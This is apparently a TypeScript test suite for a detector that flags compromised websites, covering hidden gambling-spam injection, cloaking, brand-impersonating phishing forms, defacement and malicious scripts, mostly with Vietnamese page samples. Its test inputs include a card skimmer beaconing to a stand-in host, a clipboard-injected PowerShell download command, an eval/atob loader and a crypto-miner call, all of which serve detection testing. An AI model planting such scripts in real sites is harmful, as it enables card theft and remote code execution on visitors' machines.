import assert from 'node:assert/strict';
import { test } from 'node:test';
import { observationOf } from '../testing/observation.ts';
import { observationShowing, type PageSettings, pageOf, prose } from '../testing/pages.ts';
import { decideFlags, weighFlag } from './flags.ts';

function flagsOf(html: string, settings?: PageSettings): string[] {
  return decideFlags(observationShowing(html, settings)).map(({ flag }) => flag);
}

const café = `<html lang=vi><title>Quán Mộc</title><h1>Quán Mộc</h1><p>${prose(160)}</p>`;

test('the healthy page raises nothing', () => {
  assert.deepEqual(decideFlags(observationOf()), []);
});

test('hidden words and hidden links out to gambling are an injection', () => {
  const links = ['nha-cai-x.com', 'tai-xiu-y.net', 'nohu-z.club']
    .map((host) => `<a href="https://${host}/">nhà cái ${host}</a>`)
    .join('');
  assert.deepEqual(flagsOf(`${café}<div style="display:none">nổ hũ tài xỉu cá cược ${links}</div>`), [
    'injected',
  ]);
  assert.deepEqual(
    flagsOf(
      `${café}<style>.kx{position:absolute;left:-9999px}</style><div class=kx>slot gacor, judi online togel ${links}</div>`,
    ),
    ['injected'],
  );
});

test('hidden links to many domains in another language are an injection', () => {
  const links = Array.from(
    { length: 12 },
    (_, at) => `<a href="https://toko${at}.example${at}.com/">situs resmi terpercaya ${at}</a>`,
  ).join('');
  assert.deepEqual(flagsOf(`${café}<div hidden>${links}</div>`), ['injected']);
});

test('a page that shows search engines something else is an injection', () => {
  const spam = `<title>激安通販 slot gacor</title><p>viagra cialis togel ${'giá rẻ nhất thị trường mua ngay hôm nay '.repeat(20)}</p>`;
  const observation = observationShowing(café);
  observation.web.cloaked = pageOf(spam, 'https://example.vn/').facts;
  assert.deepEqual(
    decideFlags(observation).map(({ flag }) => flag),
    ['injected'],
  );
  const honest = observationShowing(café);
  honest.web.cloaked = pageOf(café, 'https://example.vn/').facts;
  assert.deepEqual(decideFlags(honest), []);
});

test('a shop’s name turned into a betting house is an injection', () => {
  const html = `<title>Nhà cái ABC - nổ hũ tài xỉu</title><p>Nhà cái uy tín số 1, link vào không bị chặn, đăng ký nhận ngay 88k, khuyến mãi nạp đầu. ${prose(100)}</p>`;
  assert.deepEqual(flagsOf(html), ['injected']);
});

test('one mark alone stays in the evidence and raises nothing', () => {
  const observation = observationShowing(`${café}<div hidden>nổ hũ tài xỉu</div>`);
  assert.deepEqual(decideFlags(observation), []);
  assert.deepEqual(
    weighFlag('injected', observation)?.signals.map(({ id }) => id),
    ['hidden-words'],
  );
});

test('a newspaper that writes about gambling raises nothing', () => {
  const html = `<html lang=vi><title>Triệt phá đường dây cá độ, tài xỉu nghìn tỷ</title><h1>Triệt phá đường dây cá độ, tài xỉu</h1>
    <p>Các đối tượng lập trang cá cược, nổ hũ, lô đề, xóc đĩa; con bạc nạp tiền vào nhà cái rồi đánh bạc. ${prose(300)}</p>
    <a href="https://congan.example.com/ca-do">Cơ quan công an khởi tố vụ cá độ</a><nav hidden><a href="/phap-luat">Pháp luật</a></nav>`;
  assert.deepEqual(flagsOf(html), []);
});

test('a pharmacy, a lottery page, a lender and a bank raise nothing', () => {
  assert.deepEqual(
    flagsOf(
      `<title>Nhà thuốc An Khang: viagra, cialis chính hãng</title><p>Thuốc kê đơn sildenafil, tadalafil, xanax. ${prose(200)}</p><ul hidden><li>viagra<li>cialis</ul>`,
    ),
    [],
  );
  assert.deepEqual(
    flagsOf(
      `<title>Kết quả xổ số miền Bắc</title><p>Xổ số hôm nay, soi cầu lô đề, dự đoán lô tô. ${prose(200)}</p><div hidden>lô đề, ghi lô</div>`,
    ),
    [],
  );
  assert.deepEqual(
    flagsOf(
      `<title>Quỹ tín dụng nhân dân: cho vay nhanh</title><p>Cảnh báo vay nóng, bốc bát họ. ${prose(200)}</p>`,
    ),
    [],
  );
  assert.deepEqual(
    flagsOf(
      `<title>Ngân hàng Vietcombank</title><h1>Vietcombank</h1><form action=/login><input name=user><input type=password name=otp></form>`,
      {
        url: 'https://www.vietcombank.com.vn/',
        change: { domain: 'vietcombank.com.vn', unicode: 'vietcombank.com.vn' },
      },
    ),
    [],
  );
});

test('a brand on a name that is not its own, asking for a password, is a phishing suspicion', () => {
  const login =
    '<title>Vietcombank - Đăng nhập</title><form><input name=u><input type=password name=p></form>';
  assert.deepEqual(flagsOf(login), ['phishing']);
  assert.deepEqual(
    flagsOf('<title>Xác thực</title><form><input name=otp></form>', {
      change: { domain: 'vietcombank-xacthuc.vn', unicode: 'vietcombank-xacthuc.vn' },
      url: 'https://vietcombank-xacthuc.vn/',
    }),
    ['phishing'],
  );
  assert.deepEqual(
    flagsOf(
      '<h1>Ví MoMo</h1><form action="https://thu-thap.example.com/x"><input name=sdt><input type=password></form>',
    ),
    ['phishing'],
  );
});

test('a sign-in handled by another domain, with buttons of social networks, raises nothing', () => {
  const html =
    '<title>Đăng nhập</title><form action="https://sso.congty.com.vn/login"><input name=u><input type=password></form><img src="https://www.facebook.com/button.png">';
  assert.deepEqual(flagsOf(html), []);
});

test('a look-alike name in other letters reads like the brand', () => {
  const change = { domain: 'xn--vitcombank-x90d.vn', unicode: 'viеtcombank.vn' };
  assert.deepEqual(
    flagsOf('<title>Đăng nhập</title><form><input type=password></form>', {
      change,
      url: 'https://xn--vitcombank-x90d.vn/',
    }),
    ['phishing'],
  );
});

test('a shop that takes bank transfers and has a sign-in raises nothing', () => {
  assert.deepEqual(
    flagsOf(
      `<title>Quán Mộc</title><p>Chuyển khoản Vietcombank 0123456789, Techcombank, MoMo. ${prose(160)}</p><form><input type=password></form><img src="https://www.momo.vn/logo.png" alt="MoMo">`,
    ),
    [],
  );
  assert.deepEqual(
    flagsOf(`<title>abidvina</title><form><input type=password></form>`, {
      change: { domain: 'abidvina.vn', unicode: 'abidvina.vn' },
      url: 'https://abidvina.vn/',
    }),
    [],
  );
});

test('known loaders, miners, skimmers and clipboard commands are malware suspicions', () => {
  const script = (code: string) => flagsOf(`${café}<script>${code}</script>`);
  assert.deepEqual(script('if(typeof ndsj==="undefined"){var p=1}'), ['malware_script']);
  assert.deepEqual(script('eval(atob("YWxlcnQoMSk="))'), ['malware_script']);
  assert.deepEqual(script('var m = new CoinHive.Anonymous("x"); m.start()'), ['malware_script']);
  assert.deepEqual(script('navigator.clipboard.writeText("powershell -w hidden -c iwr http://x")'), [
    'malware_script',
  ]);
  assert.deepEqual(
    script(
      'document.querySelector("input[name=cardnumber]").onblur = e => { new Image().src = "https://thu.example.com/?" + btoa(e.target.value) }',
    ),
    ['malware_script'],
  );
});

test('packed scripts and analytics of honest sites raise nothing', () => {
  const script = (code: string) => flagsOf(`${café}<script>${code}</script>`);
  assert.deepEqual(script('eval(function(p,a,c,k,e,d){return p}("0 1",2,2,"a|b".split("|"),0,{}))'), []);
  assert.deepEqual(
    script('(function(i,s){i.src="https://www.googletagmanager.com/gtag/js";})(window,document)'),
    [],
  );
  assert.deepEqual(
    script(
      'var d=document.createElement("iframe");d.height=1;d.width=1;d.style.display="none";/* /cdn-cgi/challenge-platform/ */',
    ),
    [],
  );
});

test('a page that begins with “hacked by” is defaced, an article about one is not', () => {
  assert.deepEqual(flagsOf('<title>Hacked by Mr.X</title><h1>Hacked By Mr.X</h1><p>greetz to all'), [
    'defaced',
  ]);
  assert.deepEqual(flagsOf('<title>Trang chủ</title><p>h4cked by Team Z, your security is low'), ['defaced']);
  assert.deepEqual(
    flagsOf(
      `<title>Trang web của huyện bị hack bởi nhóm lạ</title><h1>Website was hacked by a group, police say</h1><p>${prose(300)}`,
    ),
    [],
  );
});

test('a challenge page and a social network raise nothing: neither is the name’s own page', () => {
  assert.deepEqual(
    flagsOf('<title>Just a moment...</title><script>eval(atob("x"))</script>', { status: 403 }),
    [],
  );
  assert.deepEqual(
    flagsOf('<title>Facebook – log in</title><form><input type=password></form>', {
      url: 'https://www.facebook.com/moc',
    }),
    [],
  );
});

test('text made to be slow is answered in no time', { timeout: 10_000 }, () => {
  const pieces = [
    'tên miền này đang được hiện ',
    'website này tạm thời đang được ',
    'tài khoản hosting này của bạn đang đã hiện ',
    'a',
    ' ',
    '0x_0x',
    'hacked ',
    'access denied ',
    '_0xabcd,',
    '%41',
    'example.vn ',
    'situs judi ',
    'contact your hosting ',
    '"><',
    'o',
    '\\x41',
  ];
  for (const piece of pieces) {
    const text = piece.repeat(Math.ceil(19_000 / piece.length));
    const html = `<title>${text.slice(0, 490)}</title><h1>${text}</h1><script>${text}</script><div hidden>${text}</div><p>${text}`;
    decideFlags(observationShowing(html));
  }
});
